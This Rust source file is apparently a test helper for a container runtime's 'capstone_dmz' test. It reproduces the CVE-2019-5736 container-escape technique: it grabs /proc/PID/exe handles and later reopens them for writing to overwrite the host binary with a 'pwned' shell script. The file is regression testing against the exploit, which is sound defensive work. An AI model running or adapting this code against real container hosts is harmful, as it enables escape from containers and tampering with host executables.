//! `exe-watcher`: the attacker of CVE-2019-5736, run inside a container by the capstone's
//! `capstone_dmz` test. Until the file named by its argument exists, it opens every
//! `/proc/PID/exe` it can see, over and over, with `O_PATH` (a handle that survives the
//! process) and `O_RDONLY`, and keeps each handle on a new file. Then, as the exploit does once
//! the runtime has exited, it reopens each kept handle for writing through `/proc/self/fd/N`.
//! It prints (see proc(5) /proc/PID/exe, open(2) O_PATH):
//!
//! - `ready` once it watches;
//! - `handle DEV INO LINK` for each file it got a handle on (st_dev and st_ino from fstat(2),
//!   so the test can compare them with the host's capstone binary);
//! - `write DEV INO OUTCOME` for each kept handle reopened for writing (`ok` or the errno);
//! - `scans N` with the number of passes over `/proc`.

use std::collections::HashSet;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;

fn main() {
    let stop = std::env::args()
        .nth(1)
        .expect("usage: exe-watcher STOP-FILE");
    let me = std::process::id().to_string();
    let mut kept: Vec<(File, u64, u64)> = Vec::new();
    let mut seen = HashSet::new();
    let mut scans = 0u64;
    println!("ready");
    while !Path::new(&stop).exists() {
        let Ok(entries) = std::fs::read_dir("/proc") else {
            break;
        };
        for entry in entries.flatten() {
            let pid = entry.file_name().to_string_lossy().into_owned();
            if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let path_only = OpenOptions::new()
                .read(true)
                .custom_flags(nix::libc::O_PATH)
                .open(&exe);
            for handle in [path_only, File::open(&exe)].into_iter().flatten() {
                let Ok(meta) = handle.metadata() else {
                    continue;
                };
                if seen.insert((meta.dev(), meta.ino())) {
                    let link = std::fs::read_link(&exe).unwrap_or_default();
                    println!("handle {} {} {}", meta.dev(), meta.ino(), link.display());
                    kept.push((handle, meta.dev(), meta.ino()));
                }
            }
        }
        scans += 1;
    }
    for (handle, dev, ino) in &kept {
        let reopened = format!("/proc/self/fd/{}", handle.as_raw_fd());
        let outcome = OpenOptions::new()
            .write(true)
            .open(&reopened)
            .and_then(|mut f| f.write_all(b"#!/bin/sh\necho pwned\n"))
            .map_or_else(|e| e.to_string(), |()| "ok".to_string());
        println!("write {dev} {ino} {outcome}");
    }
    println!("scans {scans}");
}
